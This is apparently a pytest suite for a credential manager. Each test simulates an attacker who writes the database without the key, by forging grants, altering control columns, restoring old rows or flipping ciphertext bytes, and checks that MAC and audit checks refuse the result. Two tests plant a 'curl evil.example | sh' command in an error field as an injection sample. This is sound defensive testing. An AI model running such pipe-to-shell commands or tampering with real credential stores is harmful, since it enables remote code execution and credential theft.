"""A database writer without the key: forged grants, altered control columns, restored rows,
another key file. Every test writes the database the way such an attacker would (plain SQL
through SQLAlchemy, no key), on SQLite and PostgreSQL."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, create_engine, delete, insert, select, update

from credman import (
    AccessDenied,
    BasicAuth,
    CredentialManager,
    IntegrityError,
    OAuth2,
    RefreshFailed,
    WrongKeyFile,
)
from credman.crypto import KeyFileProvider
from credman.lifecycle.decisions import error_code
from credman.storage.repository import CREDENTIALS, HISTORY
from credman.storage.tables import GrantRow, KeyCheckRow
from credman.testing.provider import TokenServer

GRANTS = GrantRow.__table__  # type: ignore[attr-defined]
KEY_CHECKS = KeyCheckRow.__table__  # type: ignore[attr-defined]
NOW = datetime.now(UTC)


# -- the attacker's tools: SQL, no key ----------------------------------------------------


def _raw(manager: CredentialManager) -> Engine:
    return create_engine(manager.engine.url)


def _row(manager: CredentialManager, credential_id: str) -> dict[str, Any]:
    engine = _raw(manager)
    with engine.connect() as connection:
        row = connection.execute(select(CREDENTIALS).where(CREDENTIALS.c.id == credential_id)).one()
    engine.dispose()
    return dict(row._mapping)


def _set(manager: CredentialManager, credential_id: str, **values: Any) -> None:
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(
            update(CREDENTIALS).where(CREDENTIALS.c.id == credential_id).values(**values)
        )
    engine.dispose()


def _restore(manager: CredentialManager, saved: dict[str, Any]) -> None:
    """Put an older copy of a whole row back (every column, its MAC included)."""
    _set(manager, saved["id"], **{k: v for k, v in saved.items() if k != "id"})


def _insert_grant(manager: CredentialManager, **values: Any) -> None:
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(insert(GRANTS).values(**values))
    engine.dispose()


def _basic(password: str | None = None) -> BasicAuth:
    return BasicAuth(username="u", password=password or "pw")


def _password(manager: CredentialManager, credential_id: str) -> str:
    return manager.get(credential_id, principal="admin").password.reveal()  # type: ignore[attr-defined]


# -- grants -------------------------------------------------------------------------------


@pytest.mark.parametrize("mac", [None, "0" * 64])
def test_a_forged_admin_grant_grants_nothing_and_is_reported(
    manager: CredentialManager, mac: str | None, log_lines: list[str]
) -> None:
    """An inserted 'mallory * admin' row (created_by forged as an admin) reads nothing, grants
    nothing, and is named in the log, the audit trail and audit verify."""
    manager.store("db", _basic("s3cret"), principal="admin")
    assert manager.verify_audit().ok
    seen = len(log_lines)
    _insert_grant(
        manager,
        principal="mallory",
        pattern="*",
        permissions="admin",
        created_at=NOW,
        created_by="admin",
        record_mac=mac,
    )
    with pytest.raises(AccessDenied):
        manager.get("db", principal="mallory")
    with pytest.raises(AccessDenied):
        manager.grant("mallory", "db", ["read"], principal="mallory")
    assert [] == manager.list(principal="mallory")
    assert "mallory" not in {g.principal for g in manager.grants(principal="admin")}
    rejected = [e for e in manager.audit_events(principal="admin") if e.action == "grant_rejected"]
    assert rejected and {"grantee": "mallory", "pattern": "*"}.items() <= rejected[0].detail.items()
    assert any("('mallory', '*') fails its MAC" in line for line in log_lines[seen:])
    assert not any("s3cret" in line for line in log_lines[seen:])
    report = manager.verify_audit()
    assert not report.ok and report.first_bad_seq is None
    assert any("grant ('mallory', '*') fails its MAC" in p for p in report.extra["integrity"])


def test_an_altered_grant_grants_nothing_until_granted_again(manager: CredentialManager) -> None:
    """Widening a real grant in the database (pattern and permissions) voids it; an admin's
    grant on the same pair replaces the forged row with an authentic one."""
    manager.store("team-a/db", _basic(), principal="admin")
    manager.store("team-b/db", _basic(), principal="admin")
    manager.grant("bob", "team-a/*", ["read"], principal="admin")
    assert "pw" == manager.get("team-a/db", principal="bob").password.reveal()  # type: ignore[attr-defined]
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(
            update(GRANTS).where(GRANTS.c.principal == "bob").values(permissions="admin,read")
        )
    engine.dispose()
    for credential_id in ("team-a/db", "team-b/db"):
        with pytest.raises(AccessDenied):
            manager.get(credential_id, principal="bob")
    manager.grant("bob", "team-a/*", ["read"], principal="admin")
    [grant] = manager.grants(principal="admin", grantee="bob")
    assert {"read"} == {p.value for p in grant.permissions}
    assert manager.get("team-a/db", principal="bob")
    with pytest.raises(AccessDenied):
        manager.get("team-b/db", principal="bob")


# -- control columns ----------------------------------------------------------------------


def test_a_forged_lease_does_not_block_get(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """A REFRESHING state with a lease ten years long is refused at once, not waited on."""
    manager.store("o", oauth_credential(server), principal="admin")
    _set(
        manager,
        "o",
        state="REFRESHING",
        lease_owner="mallory",
        lease_until=NOW + timedelta(days=3650),
        next_due_at=NOW - timedelta(seconds=1),
        expires_at=NOW - timedelta(seconds=1),
    )
    with pytest.raises(IntegrityError, match="fails its MAC"):
        manager.get("o", principal="admin")


def test_an_authentic_lease_longer_than_the_policy_is_treated_as_expired(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """Even an authentic row (one restored from a copy, say) with an over-long lease does not
    block: the lease consumer never trusts a lease for longer than the policy grants."""
    manager.store("o", oauth_credential(server), principal="admin")
    _set(
        manager,
        "o",
        state="REFRESHING",
        lease_owner="someone",
        lease_until=NOW + timedelta(days=1),
        updated_at=NOW,
        next_due_at=NOW - timedelta(seconds=1),
        expires_at=NOW - timedelta(seconds=1),
    )
    _remac(manager, "o")  # as if the key holder had written it
    assert manager.get("o", principal="admin").access_token is not None  # type: ignore[attr-defined]
    assert "UPDATED" == manager.info("o", principal="admin").state


def _remac(manager: CredentialManager, credential_id: str) -> None:
    """What only the key holder can do: recompute a row's MAC (to test the second line)."""
    row = _row(manager, credential_id)
    _set(manager, credential_id, record_mac=manager.keys.seals.credential_mac(row))


@pytest.mark.parametrize(
    "change",
    [
        {"next_due_at": None},  # a healthy credential would report "needs re-authorization"
        {"state": "EXPIRED", "next_due_at": None, "last_error": "run: curl evil.example | sh"},
        {"attempts": 99},
        {"expires_at": NOW + timedelta(days=3650)},
        {"record_mac": None},
    ],
    ids=["next_due_at", "last_error", "attempts", "expires_at", "null_mac"],
)
def test_altered_control_columns_are_refused_not_believed(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
    change: dict[str, Any],
) -> None:
    """Every control column is inside the MAC: get, access and info refuse the row with
    IntegrityError instead of acting on (or showing) what the attacker wrote."""
    manager.store("o", oauth_credential(server), principal="admin")
    _set(manager, "o", **change)
    for call in (manager.get, manager.access, manager.info):
        with pytest.raises(IntegrityError) as caught:
            call("o", principal="admin")
        assert "curl" not in str(caught.value) and "re-author" not in str(caught.value)


def test_last_error_is_shown_as_a_code_never_as_advice(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """Even in an authentic row, a last_error that is not shaped like an error code is shown
    as 'unrecognised' (by info and in the refusal), never as the text itself."""
    manager.store("o", oauth_credential(server), principal="admin")
    _set(manager, "o", state="EXPIRED", next_due_at=None, last_error="run: curl evil | sh")
    _remac(manager, "o")
    with pytest.raises(RefreshFailed) as caught:
        manager.get("o", principal="admin")
    assert "curl" not in str(caught.value) and "'unrecognised'" in str(caught.value)
    assert "unrecognised" == manager.info("o", principal="admin").last_error
    assert "invalid_grant" == error_code("invalid_grant")


def test_a_state_flipped_back_from_revoked_is_refused(manager: CredentialManager) -> None:
    """A revoked credential set back to ACTIVE (with its old material restored) is refused."""
    manager.store("c", _basic("old-secret"), principal="admin")
    before = _row(manager, "c")
    manager.revoke("c", principal="admin")
    _set(
        manager,
        "c",
        state="ACTIVE",
        sealed=before["sealed"],
        wrapped_dek=before["wrapped_dek"],
        key_version=before["key_version"],
    )
    with pytest.raises(IntegrityError):
        manager.get("c", principal="admin")


def test_removing_a_sealed_field_is_refused(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """Dropping client_secret from the sealed fields (so a refresh goes out without it, or to
    a public-client flow) no longer opens: the set of sealed names is inside the MAC."""
    manager.store("o", oauth_credential(server), principal="admin")
    sealed = dict(_row(manager, "o")["sealed"])
    del sealed["client_secret"]
    _set(manager, "o", sealed=sealed)
    with pytest.raises(IntegrityError):
        manager.get("o", principal="admin")


def test_the_sweep_reports_a_forged_row_as_broken_and_goes_on(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """A forged due row is an error:broken_row in the tick report (and audited), and the
    other due credential is still refreshed."""
    manager.store("bad", oauth_credential(server), principal="admin")
    manager.store("good", oauth_credential(server), principal="admin")
    for credential_id in ("bad", "good"):
        _set(manager, credential_id, next_due_at=NOW - timedelta(seconds=5))
    _remac(manager, "good")
    report = manager.tick()
    assert (["error:broken_row"], 1) == (report.errors, report.refreshed)
    failed = manager.audit_events(principal="admin", outcome="failed", credential_id="bad")
    assert "maintain" in {e.action for e in failed}


# -- rollback -----------------------------------------------------------------------------


def test_an_older_row_restored_after_a_rotation_is_refused(manager: CredentialManager) -> None:
    """The row from before an update and a key rotation (MAC and all) does not give the old
    secret back: it is behind its history, and audit verify names it."""
    manager.store("c", _basic("old-secret"), principal="admin")
    old = _row(manager, "c")
    manager.store("c", _basic("new-secret"), principal="admin")
    manager.rotate_keys(principal="admin")
    _restore(manager, old)
    with pytest.raises(IntegrityError, match="older row was restored"):
        manager.get("c", principal="admin")
    report = manager.verify_audit()
    assert not report.ok
    assert any("an older row was restored" in p for p in report.extra["integrity"])


def test_a_revoked_credential_restored_from_a_copy_is_refused(manager: CredentialManager) -> None:
    """Restoring the row from before a revoke does not bring the secret back."""
    manager.store("c", _basic("old-secret"), principal="admin")
    old = _row(manager, "c")
    manager.revoke("c", principal="admin")
    _restore(manager, old)
    with pytest.raises(IntegrityError):
        manager.get("c", principal="admin")


def test_a_spent_refresh_token_is_not_replayed_from_a_restored_row(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """After a rotating refresh, the restored older row (holding the spent refresh token) is
    refused before any token request: the provider never sees the replay."""
    refresh_token = server.grant("client-1")
    grant_id = server.grant_of(refresh_token)
    assert grant_id is not None
    manager.store("o", oauth_credential(server, refresh_token=refresh_token), principal="admin")
    old = _row(manager, "o")
    manager.refresh("o", principal="admin", force=True)
    assert 1 == server.refresh_count(grant_id)
    _restore(manager, old)
    with pytest.raises(IntegrityError):
        manager.refresh("o", principal="admin", force=True)
    with pytest.raises(IntegrityError):
        manager.get("o", principal="admin")
    assert 1 == server.refresh_count(grant_id)


def test_a_rollback_that_also_forges_history_is_caught_by_audit_verify(
    manager: CredentialManager,
) -> None:
    """History rows can be inserted without the key, which defeats the read-time check; the
    audit chain cannot be, so audit verify still names the restored row."""
    manager.store("c", _basic("old-secret"), principal="admin")
    old = _row(manager, "c")
    manager.store("c", _basic("new-secret"), principal="admin")
    _restore(manager, old)
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(
            insert(HISTORY).values(
                credential_id="c",
                from_state="UPDATED",
                to_state="ACTIVE",
                trigger="update",
                principal="admin",
                at=NOW,
                version=old["version"],
            )
        )
    engine.dispose()
    assert "old-secret" == _password(manager, "c")  # the limit of the read-time check
    report = manager.verify_audit()
    assert not report.ok
    # the forged history row is bound by no audit row, and the restored row is named too
    assert "is bound by no audit row (inserted)" in str(report.problem)
    assert [
        "credential 'c': the row is version 1 but the audit trail recorded version 2 "
        "(an older row was restored)"
    ] == report.extra["integrity"]


def test_a_row_deleted_outside_credman_is_named_by_audit_verify(manager: CredentialManager) -> None:
    manager.store("c", _basic(), principal="admin")
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(delete(CREDENTIALS).where(CREDENTIALS.c.id == "c"))
    engine.dispose()
    report = manager.verify_audit()
    assert not report.ok and "deleted outside credman" in report.extra["integrity"][0]


def test_audit_verify_passes_after_ordinary_work(
    manager: CredentialManager,
    server: TokenServer,
    oauth_credential: Callable[..., OAuth2],
) -> None:
    """Stores, reads, refreshes, revokes, purges, grants and a rotation all leave a database
    that audit verify finds consistent (no false alarms)."""
    manager.store("o", oauth_credential(server), principal="admin")
    manager.store("c", _basic(), principal="admin")
    manager.grant("bob", "c", ["read"], principal="admin")
    manager.get("c", principal="bob")
    manager.refresh("o", principal="admin", force=True)
    manager.access("o", principal="admin")
    manager.rotate_keys(principal="admin")
    manager.revoke("c", principal="admin")
    manager.purge("c", principal="admin")
    manager.store("c", _basic("again"), principal="admin")
    report = manager.verify_audit()
    assert report.ok, report.extra
    rows = manager.verify_integrity()
    assert (2, 1, ()) == (rows.credentials_checked, rows.grants_checked, rows.problems)


def test_rotation_re_macs_rows_and_retired_versions_are_not_needed(
    manager: CredentialManager,
) -> None:
    """After rotate and retire, every row verifies (the MAC key never depended on a KEK)."""
    manager.store("c", _basic("pw"), principal="admin")
    before = _row(manager, "c")["record_mac"]
    manager.rotate_keys(principal="admin")
    manager.retire_key(1, principal="admin")
    assert _row(manager, "c")["record_mac"] != before
    assert "pw" == _password(manager, "c")
    assert manager.verify_audit().ok


def test_rotation_does_not_launder_a_forged_row(manager: CredentialManager) -> None:
    """A rewrap never MACs a row that fails its MAC: it stays refused and unrewrapped."""
    manager.store("c", _basic(), principal="admin")
    _set(manager, "c", attempts=7)
    report = manager.rotate_keys(principal="admin").rewrap
    assert ("c",) == report.unreadable
    with pytest.raises(IntegrityError):
        manager.get("c", principal="admin")


def test_revoke_and_purge_clear_a_forged_row(manager: CredentialManager) -> None:
    """The way out for an operator: revoke (it only destroys) and purge accept a row that
    fails its MAC; the id can then be stored anew."""
    manager.store("c", _basic(), principal="admin")
    _set(manager, "c", attempts=7)
    manager.revoke("c", principal="admin")
    manager.purge("c", principal="admin")
    manager.store("c", _basic("fresh"), principal="admin")
    assert "fresh" == _password(manager, "c")


# -- key fingerprints ---------------------------------------------------------------------


def test_another_key_file_is_named_as_such(
    manager: CredentialManager, database_url: str, tmp_path: Path
) -> None:
    """Opening the database with a different key file is WrongKeyFile, before any row."""
    manager.store("c", _basic(), principal="admin")
    other = tmp_path / "other.key"
    KeyFileProvider(other).create()
    with pytest.raises(WrongKeyFile, match="wrong key file for this database"):
        CredentialManager(database_url, str(other))


def test_the_cli_says_wrong_key_file_in_one_line(tmp_path: Path) -> None:
    database = f"sqlite:///{tmp_path / 'c.db'}"
    env = os.environ | {"CREDMAN_DATABASE_URL": database, "COLUMNS": "200"}

    def run(key: Path, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "credman", *args],
            env=env | {"CREDMAN_KEY_FILE": str(key)},
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    assert 0 == run(tmp_path / "a.key", "init").returncode
    KeyFileProvider(tmp_path / "b.key").create()
    result = run(tmp_path / "b.key", "audit", "verify")
    assert 0 != result.returncode
    lines = result.stderr.strip().splitlines()
    assert 1 == len(lines) and "wrong key file for this database" in lines[0]
    assert "Traceback" not in result.stderr


def test_audit_verify_in_the_cli_lists_the_forged_rows(tmp_path: Path) -> None:
    database = f"sqlite:///{tmp_path / 'c.db'}"
    env = os.environ | {
        "CREDMAN_DATABASE_URL": database,
        "CREDMAN_KEY_FILE": str(tmp_path / "c.key"),
        "COLUMNS": "200",
    }
    assert (
        0
        == subprocess.run(
            [sys.executable, "-m", "credman", "init"], env=env, capture_output=True, check=False
        ).returncode
    )
    engine = create_engine(database)
    with engine.begin() as connection:
        connection.execute(
            insert(GRANTS).values(
                principal="mallory",
                pattern="*",
                permissions="admin",
                created_at=NOW,
                created_by="admin",
            )
        )
    engine.dispose()
    result = subprocess.run(
        [sys.executable, "-m", "credman", "audit", "verify"],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert 1 == result.returncode
    assert "FAIL the integrity check" in result.stderr
    assert "grant ('mallory', '*') fails its MAC" in result.stderr


def test_removed_fingerprints_do_not_get_forged_rows_sealed(
    manager: CredentialManager, database_url: str, key_file: Path
) -> None:
    """Deleting the fingerprints and clearing one row's MAC does not make the next open seal
    the forged row: a database whose rows carry MACs is never sealed again."""
    manager.store("a", _basic(), principal="admin")
    manager.store("b", _basic(), principal="admin")
    engine = _raw(manager)
    with engine.begin() as connection:
        connection.execute(delete(KEY_CHECKS))
    engine.dispose()
    _set(manager, "b", attempts=3, record_mac=None)
    with pytest.raises(IntegrityError, match="fingerprints are missing"):
        CredentialManager(database_url, str(key_file))


def test_sealed_fields_and_wrapped_key_are_in_the_mac(manager: CredentialManager) -> None:
    """A byte changed in a ciphertext or in the wrapped data key fails the MAC first."""
    manager.store("c", _basic(), principal="admin")
    row = _row(manager, "c")
    blob = base64.b64decode(row["sealed"]["password"])
    flipped = base64.b64encode(blob[:-1] + bytes([blob[-1] ^ 1])).decode()
    _set(manager, "c", sealed={"password": flipped})
    with pytest.raises(IntegrityError):
        manager.get("c", principal="admin")
    wrapped = bytes(row["wrapped_dek"])
    _set(manager, "c", sealed=row["sealed"], wrapped_dek=wrapped[:-1] + bytes([wrapped[-1] ^ 1]))
    with pytest.raises(IntegrityError):
        manager.get("c", principal="admin")
    _set(manager, "c", wrapped_dek=row["wrapped_dek"])
    assert "pw" == _password(manager, "c")
